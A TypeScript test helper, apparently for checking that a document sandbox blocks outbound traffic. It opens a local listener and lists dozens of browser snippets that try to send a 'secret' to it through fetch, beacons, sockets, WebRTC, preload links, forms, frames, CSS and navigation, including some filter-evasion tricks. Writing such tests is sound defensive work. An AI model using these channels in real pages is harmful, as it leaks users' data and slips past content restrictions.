import { createSocket } from 'node:dgram'
import { createServer } from 'node:net'

export interface Listener {
  /** Ports for datagrams and for connections. */
  udp: number
  tcp: number
  /** Arrivals so far. */
  heard: readonly string[]
  close(): void
}

/** Whatever reaches it has left the child. */
export async function listen(): Promise<Listener> {
  const heard: string[] = []
  const udp = createSocket('udp4', ({ length }) => heard.push(`datagram of ${length}`))
  await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done))
  const server = createServer((socket) => {
    heard.push('connection')
    socket.on('data', (data) => heard.push(data.toString('latin1').slice(0, 80)))
    socket.on('error', () => undefined)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const address = server.address()
  const tcp = typeof address === 'object' && address ? address.port : 0
  const close = () => {
    udp.close()
    server.close()
  }
  return { udp: udp.address().port, tcp, heard, close }
}

/** Everything by which a document could reach another host, each as a statement of a script. */
export function waysOut({ udp, tcp }: Pick<Listener, 'udp' | 'tcp'>): Readonly<Record<string, string>> {
  const to = (way: string) => `http://127.0.0.1:${tcp}/${way}?secret`
  const make = (tag: string, set: string) =>
    `const e = document.createElement('${tag}'); ${set}; document.body.append(e)`
  const link = (rel: string) => make('link', `e.rel = '${rel}'; e.href = '${to(rel)}'`)
  const peer = `const p = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] })
    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => setTimeout(done, 500))`
  return {
    peer: `const Peer = window.RTCPeerConnection || window.webkitRTCPeerConnection; ${peer}`,
    peerOfFrame: `const f = document.createElement('iframe'); document.body.append(f); const Peer = f.contentWindow.RTCPeerConnection; ${peer}`,
    peerGivenBack: `delete window.RTCPeerConnection; window.RTCPeerConnection ??= null; const Peer = window.RTCPeerConnection; ${peer}`,
    popup: `if (window.open('${to('popup')}') === null) throw new TypeError('none')`,
    popupOfPrototype: `Window.prototype.open.call(window, '${to('popup')}')`,
    blankLink: make('a', `e.href = '${to('blank')}'; e.target = '_blank'; e.rel = 'opener'`) + '; e.click()',
    linkOfMarkup: `document.body.insertAdjacentHTML('beforeend', '<a id="m" href="${to('markup')}" target="_blank">x</a>'); document.getElementById('m').click()`,
    linkOfNode: `const e = document.createElement('a'); e.href = '${to('node')}'; const t = document.createAttribute('target'); e.setAttributeNode(t); t.value = '_blank'; document.body.append(e); e.click()`,
    early: `const e = document.createElement('link'); e.relList.add('preconnect'); e.href = '${to('early')}'; document.head.append(e)`,
    earlyMarkup: `document.body.insertAdjacentHTML('beforeend', '<link rel="pre&#99;onnect" href="${to('earlyMarkup')}">')`,
    earlyFraming: `const f = document.createElement('iframe'); f.setAttribute('srcdoc', '<link rel=preconnect href=${to('framing')}>'); document.body.append(f)`,
    ping: make('a', `e.href = '#x'; e.ping = '${to('ping')}'`) + '; e.click()',
    download: make('a', `e.href = '${to('download')}'; e.download = 'x'`) + '; e.click()',
    form: make('form', `e.action = '${to('form')}'`) + '; e.submit()',
    blankForm: make('form', `e.action = '${to('form')}'; e.target = '_blank'`) + '; e.submit()',
    ...Object.fromEntries(
      [
        'preconnect',
        'dns-prefetch',
        'prefetch',
        'preload',
        'modulepreload',
        'prerender',
        'stylesheet',
        'icon',
        'manifest',
      ].map((rel) => [rel, link(rel)]),
    ),
    speculation: make(
      'script',
      `e.type = 'speculationrules'; e.text = '{"prefetch":[{"source":"list","urls":["${to('rules')}"]}]}'`,
    ),
    picture: make('img', `e.src = '${to('picture')}'`),
    pictureSet: make('img', `e.srcset = '${to('pictureSet')} 2x'`),
    imageInput: make('input', `e.type = 'image'; e.src = '${to('imageInput')}'`),
    drawing: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="${to('drawing')}"/><use href="${to('use')}#x"/></svg>')`,
    style: `document.body.style.backgroundImage = "url('${to('style')}')"`,
    cursor: `document.body.style.cursor = "url('${to('cursor')}'), auto"`,
    audio: make('audio', `e.src = '${to('audio')}'`),
    poster: make('video', `e.poster = '${to('poster')}'`),
    embed: make('embed', `e.src = '${to('embed')}'`),
    script: make('script', `e.src = '${to('script')}'`),
    written: make(
      'iframe',
      `e.srcdoc = '<img src="${to('written')}"><script>new Image().src="${to('inner')}"<\\/script>'`,
    ),
    video: make('video', `e.src = '${to('video')}'`),
    frame: make('iframe', `e.src = '${to('frame')}'`),
    object: make('object', `e.data = '${to('object')}'`),
    font: `await new FontFace('x', 'url(${to('font')})').load()`,
    sheet: `const s = new CSSStyleSheet(); s.replaceSync("body { background: url('${to('sheet')}') }"); document.adoptedStyleSheets = [s]`,
    imported: make('style', `e.textContent = "@import url('${to('imported')}')"`),
    serviceWorker: `await navigator.serviceWorker.register('${to('serviceWorker')}')`,
    clipboard: `await navigator.clipboard.writeText('${to('clipboard')}')`,
    topHistory: `top.history.pushState(null, '', '${to('topHistory')}')`,
    module: `await import('${to('module')}')`,
    fetch: `await fetch('${to('fetch')}', { mode: 'no-cors', keepalive: true })`,
    xhr: `const x = new XMLHttpRequest(); x.open('GET', '${to('xhr')}'); await new Promise((done, fail) => { x.onload = done; x.onerror = () => fail(new TypeError('none')); x.send() })`,
    beacon: `if (!navigator.sendBeacon('${to('beacon')}', 'x')) throw new TypeError('none')`,
    socket: `new WebSocket('ws://127.0.0.1:${tcp}/socket')`,
    transport: `await new WebTransport('https://127.0.0.1:${tcp}/transport').ready`,
    events: `new EventSource('${to('events')}')`,
    worker: `new Worker(URL.createObjectURL(new Blob(["try { new WebSocket('ws://127.0.0.1:${tcp}/worker') } catch {} fetch('${to('worker')}').catch(() => undefined)"])))`,
    sharedWorker: `new SharedWorker(URL.createObjectURL(new Blob([''])))`,
    channel: `new BroadcastChannel('x').postMessage('secret')`,
    top: `top.location = '${to('top')}'`,
    topLink: make('a', `e.href = '${to('topLink')}'; e.target = '_top'`) + '; e.click()',
    topForm: make('form', `e.action = '${to('topForm')}'; e.target = '_top'`) + '; e.submit()',
    parentOpen: `window.open('${to('parentOpen')}', '_parent')`,
    away: `location.href = '${to('away')}'`,
    refresh: make('meta', `e.httpEquiv = 'refresh'; e.content = '0;url=${to('refresh')}'`),
  }
}
